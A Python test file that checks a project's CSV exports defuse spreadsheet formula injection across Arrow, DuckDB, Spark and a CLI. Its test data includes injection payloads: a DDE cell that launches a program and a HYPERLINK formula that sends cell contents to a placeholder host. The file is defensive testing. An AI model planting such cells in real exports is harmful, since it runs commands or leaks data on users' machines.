"""Every CSV the project writes is safe to open in a spreadsheet (OWASP "CSV injection"): cells that
start like a formula are quoted, plain numbers (negative Telegram ids) are left alone."""

import csv
import subprocess
import sys

import ibis
import pyarrow as pa
import pytest

from chorusline.export.safe_csv import neutralise_arrow, neutralised, write_csv

CELLS = ["=HYPERLINK(\"http://x/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tq", "\rq",
         "-1001234567", "+3.5", "1e5", "plain", "a=b", None]
SAFE = ["'=HYPERLINK(\"http://x/?\"&A1)", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\tq", "'\rq",
        "-1001234567", "+3.5", "1e5", "plain", "a=b", None]


def test_rule_on_arrow():
    assert neutralise_arrow(pa.table({"v": CELLS, "n": list(range(len(CELLS)))})).column("v").to_pylist() == SAFE


@pytest.mark.parametrize("engine", ["duckdb", pytest.param("spark", marks=pytest.mark.spark)])
def test_rule_on_engines(engine, request):
    backend = ibis.duckdb.connect() if engine == "duckdb" else ibis.pyspark.connect(request.getfixturevalue("spark"))
    n = len(CELLS) - 1  # without the null: Spark's table-from-Arrow route turns it into 'NaN'
    t = backend.create_table("cells", pa.table({"i": list(range(n)), "v": CELLS[:n]}), overwrite=True)
    got = neutralised(t).order_by("i").to_pyarrow()
    assert got.column("v").to_pylist() == SAFE[:n] and got.column("i").to_pylist() == list(range(n))


def test_write_csv_reads_back_as_text(tmp_path):
    path = tmp_path / "out.csv"
    assert write_csv(pa.table({"account": CELLS[:4]}), path) == 4
    with open(path, newline="") as f:
        values = [row["account"] for row in csv.DictReader(f)]
    assert all(v.startswith("'") for v in values)


def test_coshare_output_quotes_formula_ids(tmp_path):
    """A CooRTweet input whose account ids are formulas: the pairs and edges files quote them."""
    src = tmp_path / "shares.csv"
    rows = ["object_id,account_id,content_id,timestamp_share"]
    for k in range(3):
        rows += [f"o{k},=HYPERLINK(1),c{k}a,{100 + k * 1000}", f"o{k},-1001,c{k}b,{105 + k * 1000}"]
    src.write_text("\n".join(rows) + "\n")
    pairs, edges = tmp_path / "pairs.csv", tmp_path / "edges.csv"
    run = subprocess.run([sys.executable, "-m", "chorusline.cli", "coshare", str(src), "--out", str(pairs),
                          "--edges", str(edges)], capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    text = pairs.read_text() + edges.read_text()
    assert "'=HYPERLINK(1)" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    assert "-1001" in text and "'-1001" not in text  # a plain number stays as it is


def test_table_export_csv(duck_store, tmp_path):
    from chorusline.export.tables import write_tables

    duck_store.backend.create_table("campaign_members", pa.table({"actor": ["x:=1+1", "x:ok"],
                                                                  "campaign_id": [0, 0]}), overwrite=True)
    duck_store.backend.create_table("campaigns", pa.table({"campaign_id": [0], "note": ["@cmd"]}), overwrite=True)
    write_tables(duck_store, tmp_path / "t", "csv")
    assert "'@cmd" in (tmp_path / "t" / "campaigns.csv").read_text()
    assert "x:=1+1" in (tmp_path / "t" / "campaign_members.csv").read_text()  # not at a cell's start: safe
